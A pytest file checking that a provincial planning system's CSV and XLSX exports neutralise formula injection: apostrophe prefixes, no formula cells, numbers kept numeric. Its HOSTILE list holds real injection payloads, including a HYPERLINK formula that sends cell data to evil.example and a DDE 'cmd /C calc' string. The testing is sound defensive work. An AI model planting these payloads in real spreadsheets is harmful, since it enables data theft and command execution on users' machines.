"""No file the system writes runs what somebody typed (OWASP "CSV Injection"): text starting with
= + - @, a tab or a carriage return is an apostrophe-prefixed field in every CSV and a text cell
(never a formula) in every XLSX, while a number stays a number - one test per file type."""
import copy
import csv
import io
import json
import zipfile
from datetime import datetime, timedelta, timezone

import openpyxl
import pytest

from clusterctl.reference import load_sample_plan
from clusterctl.settings import REPO_ROOT
from services.gateway import exports
from services.infra.report_workbook import build_workbook
from services.infra.spreadsheet import csv_cell, from_csv
from services.plans.workbook import csv_to_plan, plan_to_csv, plan_to_xlsx, xlsx_to_plan

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def problem(text: str) -> dict:
    return {"reported_at": "2025-01-10T14:30:00+07:00", "as_of": "2024-12-31", "province": "TH-34",
            "project": "NE2-67-001", "title_th": "โครงการ", "issue": 1,
            "implementing_agency": "ubon-agriculture", "procurement_stage": "in_progress",
            "problems": text, "solutions": "-5"}


def xlsx_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def test_the_rule_and_its_exact_round_trip():
    for text in HOSTILE + ["'=already quoted", "''@two"]:
        assert csv_cell(text).startswith("'") and from_csv(csv_cell(text)) == text
    for harmless in ("ปัญหาน้ำท่วม", "a=b", "", "'plain"):
        assert csv_cell(harmless) == harmless and from_csv(harmless) == harmless
    assert csv_cell(-5.0) == -5.0 and csv_cell(None) is None


def test_a_view_exported_as_csv_prefixes_formula_text_and_keeps_numbers():
    header, rows = exports.problems_table([problem(text) for text in HOSTILE])
    rows.append(["-", -5.0, 0])
    data = exports.table_file("problems", header, rows, "csv").decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(data, newline="")) for field in row]
    assert all(field.startswith("'") for field in fields if field[:1] in "=+-@\t\r" and field != "-5.0")
    for text in HOSTILE:
        assert "'" + text in fields
    assert "'-5" in fields  # text typed as "-5" is text
    assert "-5.0" in fields  # the number -5.0 is written as a number


def test_a_view_exported_as_xlsx_has_no_formula_and_numbers_stay_numbers():
    header, rows = exports.problems_table([problem(text) for text in HOSTILE])
    rows.append(["x", -5.0, 0])
    cells = xlsx_cells(exports.table_file("problems", header, rows, "xlsx"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\n"]
    # an XML reader hands a carriage return back as a line feed: the text is otherwise exact
    assert {c.value for c in hostile} >= {t.replace("\r", "\n") for t in HOSTILE}
    assert all(c.quotePrefix for c in hostile)
    numbers = [c for c in cells if c.value == -5.0]
    assert numbers and numbers[0].data_type == "n"


@pytest.fixture(scope="module")
def hostile_plan():
    plan = copy.deepcopy(load_sample_plan())
    plan["vision_th"] = HOSTILE[0]
    plan["issues"][0]["title_en"] = HOSTILE[3]
    plan["projects"][0]["title_en"] = HOSTILE[1]
    return plan


def test_the_plan_workbook_has_no_formula_and_reads_back_the_same(hostile_plan):
    data = plan_to_xlsx(hostile_plan)
    assert not [c.coordinate for c in xlsx_cells(data) if c.data_type == "f"]
    document, _ = xlsx_to_plan(data)
    assert document["vision_th"] == HOSTILE[0] and document["issues"][0]["title_en"] == HOSTILE[3]


def test_the_plan_csv_files_prefix_formula_text_and_read_back_the_same(hostile_plan):
    data = plan_to_csv(hostile_plan)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = "".join(archive.read(name).decode("utf-8-sig") for name in archive.namelist())
    fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
    assert "'" + HOSTILE[0] in fields and HOSTILE[0] not in fields
    document, _ = csv_to_plan(data)
    assert document["vision_th"] == HOSTILE[0] and document["projects"][0]["title_en"] == HOSTILE[1]


def test_the_province_reporting_workbook_has_no_formula():
    plan = json.loads((REPO_ROOT / "clusterctl" / "data" / "seed" /
                       "plan-northeast-lower-2-2566-2570.json").read_text("utf-8"))
    plan["projects"][0]["title_th"] = HOSTILE[0]
    plan["issues"][0]["indicators"][0]["name_th"] = HOSTILE[2]
    generated = datetime(2025, 1, 5, 9, 0, tzinfo=timezone(timedelta(hours=7)))
    cells = xlsx_cells(build_workbook(plan, "TH-34", "FY2568-Q1", {}, generated))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == HOSTILE[0] and c.quotePrefix for c in cells)
